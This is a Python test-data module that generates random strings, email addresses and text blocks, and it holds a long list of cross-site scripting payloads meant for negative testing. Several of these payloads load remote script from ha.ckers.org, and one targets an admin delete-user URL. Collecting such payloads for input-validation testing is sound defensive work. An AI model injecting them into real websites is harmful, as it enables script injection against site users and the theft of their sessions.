"""
================================================================================
String Factory
================================================================================

Random strings for populating data object fields.

Features:
    - Printable ASCII / high ASCII / keyboard-character strings
    - URL-safe strings and syntactically valid (if unusual) email addresses
    - Multi-line text blocks
    - Known XSS payloads for negative testing
    - HTML hex colors

Usage:
    from testfactory.string_factory import random_alphanums, random_email

    data = {"title": random_alphanums(12), "email": random_email(8)}

Author: Automation Team
License: MIT
================================================================================
"""

import random
from typing import Callable, Dict

# Letters that are easy to confuse (i, l, o, I, O) are left out.
ALPHANUMS = "abcdefghjkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ0123456789"
LETTERS = "abcdefghjkmnpqrstuvwxyz"
NICELINK_CHARS = ALPHANUMS + "_-."
EMAIL_LOCAL_CHARS = ALPHANUMS + "!#$%&'*+-/=?^_`{|}~"
KEYBOARD_CHARS = ALPHANUMS + "`~!@#$%^&*()_+-={}[]\\:\";'<>?,./"

MAX_EMAIL_NAME = 62

# Ordered by length, shortest first.
XSS_STRINGS = [
    "<PLAINTEXT>",
    "\\\";alert('XSS');//",
    "'';!--\"<XSS>=&{()}",
    "<IMG SRC=\"mocha:alert('XSS')\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY ONLOAD =alert('XSS')>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    "¼script¾alert(¢XSS¢)¼/script¾",
    "<IMG SRC=\"livescript:alert('XSS')\">",
    "<SCRIPT SRC=//ha.ckers.org/.j>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<A HREF=\"http://1113982867/\">XSS</A>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<A HREF=\"http://66.102.7.147/\">XSS</A>",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<SCRIPT>a=/XSS/ alert(a.source)</SCRIPT>",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<XSS STYLE=\"xss:expression(alert('XSS'))\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<SCRIPT SRC=http://ha.ckers.org/xss.js?<B>",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<iframe src=http://ha.ckers.org/scriptlet.html <",
    "<SCRIPT SRC=http://ha.ckers.org/xss.js></SCRIPT>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<A HREF=\"http://0x42.0x0000066.0x7.0x93/\">XSS</A>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<A HREF=\"http://0102.0146.0007.00000223/\">XSS</A>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<SCRIPT/SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<SCRIPT SRC=\"http://ha.ckers.org/xss.jpg\"></SCRIPT>",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(\"XSS\")';</STYLE>",
    "<STYLE>@import'http://ha.ckers.org/xss.css';</STYLE>",
    "<SCRIPT/XSS SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
    "<SCRIPT =\">\" SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<SCRIPT a=`>` SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<LAYER SRC=\"http://ha.ckers.org/scriptlet.html\"></LAYER>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<SCRIPT \"a='>'\" SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<LINK REL=\"stylesheet\" HREF=\"http://ha.ckers.org/xss.css\">",
    "<SCRIPT a=\">'>\" SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "perl -e 'print \"<SCR\\0IPT>alert(\\\"XSS\\\")</SCR\\0IPT>\";' > out",
    "<IMG SRC = \" j a v a s c r i p t : a l e r t ( ' X S S ' ) \" >",
    "Redirect 302 /a.jpg http://www.rsmart.com/admin.asp&deleteuser",
    "perl -e 'print \"<IMG SRC=java\\0script:alert(\\\"XSS\\\")>\";' > out",
    "<!--[if gte IE 4]> <SCRIPT>alert('XSS');</SCRIPT> <![endif]-->",
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<A HREF=\"http://%77%77%77%2E%67%6F%6F%67%6C%65%2E%63%6F%6D\">XSS</A>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "a=\"get\"; b=\"URL(\\\"\"; c=\"javascript:\"; d=\"alert('XSS');\\\")\"; eval(a+b+c+d);",
    "<STYLE>BODY{-moz-binding:url(\"http://ha.ckers.org/xssmoz.xml#xss\")}</STYLE>",
    "<EMBED SRC=\"http://ha.ckers.org/xss.swf\" AllowScriptAccess=\"always\"></EMBED>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:alert('XSS')\")}</STYLE>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS",
    "<META HTTP-EQUIV=\"Link\" Content=\"<http://ha.ckers.org/xss.css>; REL=stylesheet\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:alert('XSS');\">",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://ha.ckers.org/scriptlet.html\"></OBJECT>",
    "<SCRIPT>document.write(\"<SCRI\");</SCRIPT>PT SRC=\"http://ha.ckers.org/xss.js\"></SCRIPT>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    "<XML SRC=\"xsstest.xml\" ID=I></XML> <SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=&lt;SCRIPT&gt;alert('XSS')&lt;/SCRIPT&gt;\">",
    "exp/*<A STYLE='no\\xss:noxss(\"*//*\"); xss:&#101;x&#x2F;*XSS*//*/*/pression(alert(\"XSS\"))'>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC=http://ha.ckers.org/xss.js></SCRIPT>'\"-->",
    "<OBJECT classid=clsid:ae24fdae-03c6-11d1-8b76-0080c744f389><param name=url value=javascript:alert('XSS')></OBJECT>",
    "<HTML xmlns:xss> <?import namespace=\"xss\" implementation=\"http://ha.ckers.org/xss.htc\"> <xss:xss>XSS</xss:xss> </HTML>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>+ADw-SCRIPT+AD4-alert('XSS');+ADw-/SCRIPT+AD4-",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<XML ID=I><X><C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]> </C></X></xml><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>",
    "<XML ID=\"xss\"><I><B>&lt;IMG SRC=\"javas<!-- -->cript:alert('XSS')\"&gt;</B></I></XML> <SPAN DATASRC=\"#xss\" DATAFLD=\"B\" DATAFORMATAS=\"HTML\"></SPAN>",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "';alert(String.fromCharCode(88,83,83))//\\';alert(String.fromCharCode(88,83,83))//\";alert(String.fromCharCode(88,83,83))//\\\";alert(String.fromCharCode(88,83,83))//--></SCRIPT>\">'><SCRIPT>alert(String.fromCharCode(88,83,83))</SCRIPT>",
    "<HTML><BODY> <?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"> <?import namespace=\"t\" implementation=\"#default#time2\"> <t:set attributeName=\"innerHTML\" to=\"XSS&lt;SCRIPT DEFER&gt;alert(&quot;XSS&quot;)&lt;/SCRIPT&gt;\"> </BODY></HTML>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
]

_XSS_PREFIXES = ["", '"', '">', ">"]


def random_string(length: int = 10, s: str = "") -> str:
    """Printable ASCII (33-125) string of `length` chars, appended to `s`."""
    return s + "".join(chr(random.randint(33, 125)) for _ in range(length))


def random_high_ascii(length: int = 10, s: str = "") -> str:
    """Like random_string, drawing from code points 33-255."""
    return s + "".join(chr(random.randint(33, 255)) for _ in range(length))


def random_nicelink(length: int = 10) -> str:
    """
    A "friendlier" random string. Nothing needs escaping in a URL: no reserved
    or unsafe characters, and no comma, @ sign or plus sign.
    """
    return "".join(random.choice(NICELINK_CHARS) for _ in range(length))


def random_email(x: int = MAX_EMAIL_NAME) -> str:
    """
    A string formatted like an email address.

    Args:
        x: Length of the name portion minus 2 (capped at 62)
    """
    x = min(x, MAX_EMAIL_NAME)
    name = "".join(random.choice(EMAIL_LOCAL_CHARS) for _ in range(x))
    return f"{random_alphanums(1)}{name}{random_alphanums(1)}@{random_alphanums(60)}.com"


def random_alphanums_plus(length: int = 10, s: str = "") -> str:
    """Uses every character on an American QWERTY keyboard."""
    return s + "".join(random.choice(KEYBOARD_CHARS) for _ in range(length))


def random_alphanums(length: int = 10, s: str = "") -> str:
    """Letters and numbers only."""
    return s + "".join(random.choice(ALPHANUMS) for _ in range(length))


def random_letters(length: int = 10, s: str = "") -> str:
    """Lower case letters only."""
    return s + "".join(random.choice(LETTERS) for _ in range(length))


_WORD_MAKERS: Dict[str, Callable[[], str]] = {
    "alpha": lambda: random_alphanums(random.randint(1, 16)),
    "string": lambda: random_string(random.randint(1, 16)),
    "ascii": lambda: random_high_ascii(random.randint(1, 16)),
}


def random_multiline(word_count: int = 2, line_count: int = 2, char_type: str = "alpha") -> str:
    """
    A block of text with `word_count` words (1-16 chars each) spread over
    `line_count` lines.

    Args:
        word_count: Count of words, separated by spaces or line feeds
        line_count: Count of lines. Can't exceed word_count; fixed if it does.
        char_type: "alpha" (letters and numbers), "string" (ASCII 33-125)
            or "ascii" (33-255)
    """
    make_word = _WORD_MAKERS[char_type]
    if line_count > word_count:
        line_count = word_count - 1

    words = [make_word() for _ in range(word_count)]
    newlines = max(line_count - 1, 0)
    separators = ["\n"] * newlines + [" "] * max(word_count - 1 - newlines, 0)
    random.shuffle(separators)

    parts = []
    for index, word in enumerate(words):
        parts.append(word)
        if index < len(separators):
            parts.append(separators[index])
    return "".join(parts)


def random_xss_string(number: int = len(XSS_STRINGS)) -> str:
    """
    One of the first `number` XSS strings, randomly prefixed with a quote
    and/or closing bracket.
    """
    number = max(1, min(number, len(XSS_STRINGS)))
    return random.choice(_XSS_PREFIXES) + XSS_STRINGS[random.randrange(number)]


def random_hex_color() -> str:
    """A random HTML color value, e.g. '#3FA2C0'."""
    return f"#{random.randint(0, 0xFFFFFF):06X}"
